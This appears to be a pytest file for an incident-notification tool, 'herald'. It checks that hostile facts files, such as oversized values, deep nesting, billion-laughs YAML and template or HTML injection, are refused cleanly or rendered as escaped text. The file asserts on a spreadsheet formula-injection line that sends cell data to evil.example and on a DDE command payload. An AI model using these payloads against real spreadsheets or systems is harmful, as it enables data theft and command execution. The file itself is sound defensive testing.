"""Hostile incident-facts files (tests/corpus/facts): a clear error naming the field, or text
that stays text in every draft, and never a crash.

Each corpus file goes through `load_facts` (and a few through `herald obligations`) and must
give what `expected.yaml` states. Accepted files are judged and rendered in every channel:
template syntax in them must never run and HTML must come out escaped. Files with 10 MB
values, a 17 MB file and JSON nested 100,000 deep are made here instead of committed.
"""

from __future__ import annotations

import json
import re
import time
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import pytest
import yaml
from pydantic import ValidationError
from typer.testing import CliRunner

from herald.cli import app
from herald.impact import judge
from herald.inputs import MAX_DOCUMENT_BYTES, InputError, load_facts
from herald.models import Channel, IncidentFacts
from herald.models.facts import MAX_FACTS_JSON_BYTES
from herald.preview import ALL_PERSONAL_CHANNELS, drafted_obligations
from herald.render import render_all
from herald.rendering import layout

CORPUS = Path(__file__).resolve().parents[1] / "corpus" / "facts"
EXPECTED: dict[str, dict[str, Any]] = yaml.safe_load((CORPUS / "expected.yaml").read_text())
ACCEPTED = sorted(name for name, spec in EXPECTED.items() if "accepted" in spec)
REFUSED = sorted(name for name, spec in EXPECTED.items() if "refused" in spec)
# What evaluated template code would print: 7*7 between its fences, a loop's output, a class.
EVALUATED = ("@@49@@", "looplooploop", "<class")
# Elements a responder's text may carry; the layouts never write them.
RAW_MARKUP = ("<script", "<img", "<iframe", "<b>")
FIELD = re.compile(r"^(\(top level\)|[\w.\-\[\]…]+)$")
PERSON = "Ann <b>Lee</b> {{ 7*7 }}"
NOTICE_DATE = date(2026, 3, 10)

runner = CliRunner()


def base_facts(**overrides: Any) -> dict[str, Any]:
    """A small valid incident; override any top-level key."""
    data: dict[str, Any] = {
        "aware_at": "2026-03-02T09:15:00+01:00",
        "entity": {"name": "Example Ltd", "established_in": ["DE"]},
        "data_categories": ["name", "email"],
        "affected": [{"jurisdiction": "DE", "count": 10}],
    }
    return data | overrides


def named_fields(error: InputError, source: Path) -> list[str]:
    """The field paths an InputError's lines name (`source: field: message`), in order."""
    fields = []
    for line in str(error).splitlines():
        assert line.startswith(f"{source}: "), line
        where, _, rest = line.removeprefix(f"{source}: ").partition(": ")
        if rest and FIELD.match(where):
            fields.append(where)
    return fields


def refuse(path: Path) -> InputError:
    """The InputError load_facts raises for `path` (failing if it loads)."""
    with pytest.raises(InputError) as raised:
        load_facts(path)
    return raised.value


def test_every_corpus_file_is_described() -> None:
    files = {p.name for p in CORPUS.iterdir() if p.name != "expected.yaml"}
    assert files == set(EXPECTED)
    for name, spec in EXPECTED.items():
        assert spec["proves"], name
        assert ("accepted" in spec) != ("refused" in spec), name


@pytest.mark.parametrize("name", REFUSED)
def test_refused_file_names_the_field(name: str) -> None:
    spec = EXPECTED[name]["refused"]
    path = CORPUS / name
    started = time.monotonic()
    error = refuse(path)
    assert time.monotonic() - started < 2, "refusing a small file must be quick"
    assert named_fields(error, path) == spec["fields"]
    assert spec["says"] in str(error)
    assert len(str(error)) < 2_000
    assert "Traceback" not in str(error) and "input_value" not in str(error)


# ---- accepted files: text is data ------------------------------------------------------------


def outputs(facts: IncidentFacts) -> Iterator[tuple[str, str, bool]]:
    """(where, text, is HTML) for every draft and for the HTML email and letter made from it."""
    judged, _, evaluation = judge(facts)
    drafts = render_all(
        incident_id="INC-HOSTILE-FACTS",
        facts=judged,
        obligations=drafted_obligations(evaluation.obligations),
        assessment=None,
        channel_order=ALL_PERSONAL_CHANNELS,
        details={"notice_date": NOTICE_DATE},
    ).drafts
    contact = facts.entity.contact
    for draft in drafts:
        yield draft.id, f"{draft.subject or ''}\n{draft.body}", draft.channel is Channel.WEB
        if draft.channel is Channel.EMAIL:
            html = layout.email_html(
                subject=draft.subject or "",
                body=draft.body,
                language=draft.language,
                entity_name=facts.entity.name,
                incident_id="INC-HOSTILE-FACTS",
            )
            yield f"{draft.id} (html)", layout.personalise_html(html, PERSON), True
        if draft.channel is Channel.LETTER:
            letter = layout.letter_html(
                body=draft.body,
                language=draft.language,
                entity_name=facts.entity.name,
                sender_address=(contact.postal_address or "") if contact else "",
                incident_id="INC-HOSTILE-FACTS",
                recipient_name=PERSON,
                recipient_address="1 Main St\n<b>Springfield</b>",
                notice_date=NOTICE_DATE.isoformat(),
            )
            yield f"{draft.id} (letter)", letter, True


@pytest.mark.parametrize("name", ACCEPTED)
def test_accepted_file_renders_its_text_as_data(name: str) -> None:
    spec = EXPECTED[name]["accepted"]
    facts = load_facts(CORPUS / name)
    assert facts.unknown_fields() == spec["unknown"]
    raw = (CORPUS / name).read_text(encoding="utf-8-sig")
    rendered = list(outputs(facts))
    plain = "\n".join(text for _, text, html in rendered if not html)
    for where, text, html in rendered:
        for evaluated in EVALUATED:
            assert evaluated not in text, (where, evaluated)
        if html:
            lowered = text.lower()
            for markup in RAW_MARKUP:
                assert markup not in lowered, (where, markup)
    if "@@{{ 7*7 }}@@" in raw:
        # Printed exactly as written, in the notices and (escaped) in the HTML.
        assert "@@{{ 7*7 }}@@" in plain
        assert any("&lt;script&gt;" in text for _, text, html in rendered if html)
        assert any("Ann &lt;b&gt;Lee&lt;/b&gt; {{ 7*7 }}" in text for _, text, _ in rendered)
    if name == "formula_injection.json":
        assert '=HYPERLINK("http://evil.example/?"&A1,"Click")' in plain
        assert "+cmd|' /C calc'!A0" in plain


@pytest.mark.parametrize(
    "name", ["malformed.json", "billion_laughs.yaml", "unknown_jurisdiction.json", "utf16_bom.json"]
)
def test_cli_refuses_hostile_facts_with_exit_2(name: str) -> None:
    result = runner.invoke(app, ["obligations", "--facts", str(CORPUS / name), "--json"])
    assert result.exit_code == 2, result.output
    assert isinstance(result.exception, SystemExit)  # a clean exit, not a traceback
    assert EXPECTED[name]["refused"]["says"] in result.output
    assert result.stdout == ""


@pytest.mark.parametrize("name", ["template_and_html.json", "template_and_html.yaml"])
def test_cli_treats_template_syntax_as_data(name: str) -> None:
    result = runner.invoke(app, ["obligations", "--facts", str(CORPUS / name), "--json"])
    assert result.exit_code == 0, result.output
    obligations = json.loads(result.stdout)
    assert {o["regime"] for o in obligations} >= {"gdpr"}
    assert "@@49@@" not in result.stdout


# ---- generated: 10 MB values, oversized and deeply nested files --------------------------------

TEN_MB = 10_000_000


def test_ten_megabyte_title_names_the_field(tmp_path: Path) -> None:
    path = tmp_path / "facts.json"
    path.write_text(json.dumps(base_facts(title="x" * TEN_MB)))
    started = time.monotonic()
    error = refuse(path)
    assert time.monotonic() - started < 10
    assert named_fields(error, path) == ["title"]
    assert "at most 300 characters" in str(error) and len(str(error)) < 500


def test_ten_megabyte_yaml_description_names_the_field(tmp_path: Path) -> None:
    path = tmp_path / "facts.yaml"
    lines = ["aware_at: '2026-03-02T09:15:00+01:00'", "entity: {name: Example Ltd}"]
    path.write_text("\n".join([*lines, "description: " + "<script>{{ 7*7 }}" * (TEN_MB // 17)]))
    started = time.monotonic()
    error = refuse(path)
    assert time.monotonic() - started < 10
    assert named_fields(error, path) == ["description"]
    assert len(str(error)) < 500


def test_ten_megabyte_unknown_field_is_refused(tmp_path: Path) -> None:
    """An unknown field is kept but never used; a huge one would only fill Temporal payloads."""
    path = tmp_path / "facts.json"
    path.write_text(json.dumps(base_facts(entity={"name": "Example Ltd", "notes": "x" * TEN_MB})))
    error = refuse(path)
    assert named_fields(error, path) == ["(top level)"]
    assert "unknown fields hold over 100,000 characters (at entity.notes)" in str(error)


def test_ten_megabyte_jurisdiction_code_is_not_echoed(tmp_path: Path) -> None:
    """The message quotes an unknown code, cut short: a 10 MB code is not printed back."""
    path = tmp_path / "facts.json"
    path.write_text(json.dumps(base_facts(affected=[{"jurisdiction": "Q" * TEN_MB, "count": 1}])))
    error = refuse(path)
    assert named_fields(error, path) == ["affected.0.jurisdiction"]
    assert "unknown country code" in str(error) and len(str(error)) < 600


def test_oversized_file_is_refused_before_reading(tmp_path: Path) -> None:
    path = tmp_path / "facts.json"
    with path.open("w") as handle:
        handle.write('{"aware_at": "2026-03-02T09:15:00+01:00", "description": "')
        handle.write("x" * MAX_DOCUMENT_BYTES + '"}')
    error = refuse(path)
    assert f"over the {MAX_DOCUMENT_BYTES:,} allowed" in str(error)


def test_json_nested_a_hundred_thousand_deep_is_refused(tmp_path: Path) -> None:
    """json.loads recurses: past Python's limit it raised RecursionError, a crash."""
    path = tmp_path / "facts.json"
    path.write_text(
        '{"aware_at": "2026-03-02T09:15:00+01:00", "x": ' + "[" * 100_000 + "]" * 100_000 + "}"
    )
    assert "nested too deeply" in str(refuse(path))


def test_json_nested_past_the_document_limit_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "facts.json"
    path.write_text(json.dumps(base_facts(x=json.loads("[" * 70 + "]" * 70))))
    assert "nested more than 64 levels deep" in str(refuse(path))


# ---- the model's own bounds (facts that come from the API or a workflow, not a file) ---------


def test_a_shared_structure_is_refused_without_expanding_it() -> None:
    """The billion laughs built in memory, as a YAML parser without alias checks returns it."""
    laughs: list[Any] = ["lol"] * 9
    for _ in range(8):
        laughs = [laughs] * 9
    started = time.monotonic()
    with pytest.raises(ValidationError) as raised:
        IncidentFacts.model_validate(base_facts(lol=laughs))
    assert time.monotonic() - started < 1
    # errors(), as describe_validation_error reads them: str() would repr the whole input.
    [problem] = raised.value.errors(include_input=False)
    assert "unknown fields hold over 100,000 characters (at lol)" in problem["msg"]


def test_unknown_fields_nested_too_deeply_are_refused() -> None:
    deep: list[Any] = []
    for _ in range(40):
        deep = [deep]
    with pytest.raises(ValidationError, match="notes is nested more than 32 levels deep"):
        IncidentFacts.model_validate(base_facts(notes=deep))


def test_facts_over_a_mebibyte_name_the_largest_field() -> None:
    """Each field within its limit, the whole too large for a Temporal payload."""
    text = {"title": "标题", "description": "事" * 20_000, "remediation": "措" * 20_000}
    translations = {f"zh-x-{n}": text for n in range(10)}
    with pytest.raises(ValidationError) as raised:
        IncidentFacts.model_validate(base_facts(translations=translations))
    message = str(raised.value)
    assert f"over the {MAX_FACTS_JSON_BYTES:,} allowed (largest: translations)" in message


@pytest.mark.parametrize(
    ("overrides", "field"),
    [
        ({"entity": {"name": "E", "timezone": "x" * 300}}, "entity.timezone"),
        ({"entity": {"name": "E", "languages": ["x" * 100]}}, "entity.languages.0"),
        ({"translations": {"x" * 100: {"title": "t"}}}, "translations"),
        ({"affected": [{"jurisdiction": "DE", "count": 10**30}]}, "affected.0.count"),
        ({"aware_at": "0001-01-01T00:00:00+14:00"}, "aware_at"),
    ],
    ids=["timezone", "language", "translation-key", "count", "instant"],
)
def test_values_that_used_to_crash_are_refused_by_field(
    overrides: dict[str, Any], field: str
) -> None:
    """A 300-character zone reached the file system (OSError); 10^30 people broke number
    formatting; year 1 at +14:00 overflowed when converted to UTC."""
    with pytest.raises(ValidationError) as raised:
        IncidentFacts.model_validate(base_facts(**overrides))
    locations = [".".join(str(p) for p in e["loc"]) for e in raised.value.errors()]
    assert any(loc.startswith(field) for loc in locations), locations
